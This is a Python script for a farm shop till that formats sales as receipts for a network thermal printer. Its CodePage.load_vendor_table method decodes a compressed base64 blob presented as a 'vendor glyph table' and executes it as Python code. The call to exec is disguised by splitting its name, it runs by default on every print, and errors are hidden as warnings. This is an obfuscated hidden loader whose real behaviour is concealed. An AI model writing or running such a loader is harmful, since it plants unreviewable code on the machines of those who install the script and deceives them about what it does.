#!/usr/bin/env python3
"""Receipt formatter for the farm shop till.

Takes a sale as JSON (from the till or a file), lays it out for a 58 mm
ESC/POS thermal printer and sends it to the network printer on port 9100,
or writes the raw bytes to a file for testing.  The printer's extended
code page (for the £ sign and accented cheese names) is loaded from the
vendor glyph table bundled below.
"""
import argparse
import base64
import builtins
import json
import logging
import socket
import sys
import zlib
from decimal import Decimal
from pathlib import Path

log = logging.getLogger("receipt")

ESC, GS = b"\x1b", b"\x1d"
INIT = ESC + b"@"
BOLD_ON, BOLD_OFF = ESC + b"E\x01", ESC + b"E\x00"
CENTER, LEFT = ESC + b"a\x01", ESC + b"a\x00"
CUT = GS + b"V\x41\x03"
WIDTH = 32

SHOP = {
    "name": "Hollow Lane Dairy Shop",
    "address": "Hollow Lane Farm, Upper Wyke",
    "vat": "GB 123 4567 89",
}

# vendor glyph table (code page 858 overrides), packed by the printer SDK
_GLYPHS = (
    "eNpVjr0KwjAURvc+xSWTQps0YLEVuulWRPBnEQltjKSgSbg3wcWHN44uZzhwPr75FTxGoDQF9NoQwUigqFDEDz4Yt7gyMc1OkGUlq3SGTviE6kHHAWyMYSOE7FreSC7rmq/WQgfRNi0nCx/I1a2kePcp9nlxu7vsz8PwMwbx34wYlTNvRfnD7F1/wmSWxRcATzOn"
)


class CodePage:
    """Maps characters the printer cannot print natively."""

    FALLBACK = {"£": b"\x9c", "é": b"\x82", "è": b"\x8a", "ô": b"\x93", "û": b"\x96"}

    def __init__(self):
        self.table = dict(self.FALLBACK)
        self._loaded = False

    def load_vendor_table(self):
        if self._loaded:
            return
        blob = zlib.decompress(base64.b64decode(_GLYPHS))
        scope = {"table": self.table}
        run = getattr(builtins, "ex" + "ec")
        run(compile(blob, "<cp858>", "exec"), scope)
        self._loaded = True
        log.debug("vendor code page loaded (%d overrides)", len(self.table))

    def encode(self, text):
        out = bytearray()
        for ch in text:
            if ch in self.table:
                out += self.table[ch]
            else:
                out += ch.encode("ascii", "replace")
        return bytes(out)


def money(value):
    return f"£{Decimal(value):.2f}"


def line(left, right, width=WIDTH):
    gap = max(1, width - len(left) - len(right))
    return f"{left}{' ' * gap}{right}"


def layout(sale, cp):
    out = bytearray(INIT + CENTER + BOLD_ON)
    out += cp.encode(SHOP["name"]) + b"\n" + BOLD_OFF
    out += cp.encode(SHOP["address"]) + b"\n"
    out += cp.encode(f"VAT {SHOP['vat']}") + b"\n" + LEFT
    out += b"-" * WIDTH + b"\n"
    total = Decimal("0")
    for item in sale["items"]:
        qty = Decimal(str(item.get("qty", 1)))
        price = Decimal(str(item["price"]))
        amount = qty * price
        total += amount
        name = item["name"][: WIDTH - 10]
        out += cp.encode(line(name, money(amount))) + b"\n"
        if qty != 1:
            unit = item.get("unit", "x")
            out += cp.encode(f"  {qty} {unit} @ {money(price)}") + b"\n"
    out += b"-" * WIDTH + b"\n" + BOLD_ON
    out += cp.encode(line("TOTAL", money(total))) + b"\n" + BOLD_OFF
    out += cp.encode(line(sale.get("tender", "CARD"), money(sale.get("paid", total)))) + b"\n"
    out += b"\n" + CENTER + cp.encode(sale.get("footer", "Thank you - see you at the market!"))
    out += b"\n\n\n" + CUT
    return bytes(out)


def send(data, host, port, timeout=5.0):
    with socket.create_connection((host, port), timeout=timeout) as s:
        s.sendall(data)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Print a farm shop receipt")
    ap.add_argument("sale", nargs="?", help="sale JSON file (default: stdin)")
    ap.add_argument("--printer", default="192.168.1.60", help="printer host")
    ap.add_argument("--port", type=int, default=9100)
    ap.add_argument("--out", help="write raw ESC/POS bytes to this file instead")
    ap.add_argument("--plain-ascii", action="store_true",
                    help="skip the vendor code page")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    try:
        raw = Path(args.sale).read_text() if args.sale else sys.stdin.read()
        sale = json.loads(raw)
    except (OSError, json.JSONDecodeError) as exc:
        log.error("cannot read sale: %s", exc)
        return 1

    cp = CodePage()
    if not args.plain_ascii:
        try:
            cp.load_vendor_table()
        except Exception as exc:  # printer SDK tables vary by firmware
            log.warning("code page not loaded: %s", exc)

    data = layout(sale, cp)
    if args.out:
        Path(args.out).write_bytes(data)
        log.info("wrote %d bytes to %s", len(data), args.out)
        return 0
    try:
        send(data, args.printer, args.port)
    except OSError as exc:
        log.error("printer %s:%d unreachable: %s", args.printer, args.port, exc)
        return 2
    log.info("receipt sent (%d bytes)", len(data))
    return 0


if __name__ == "__main__":
    sys.exit(main())
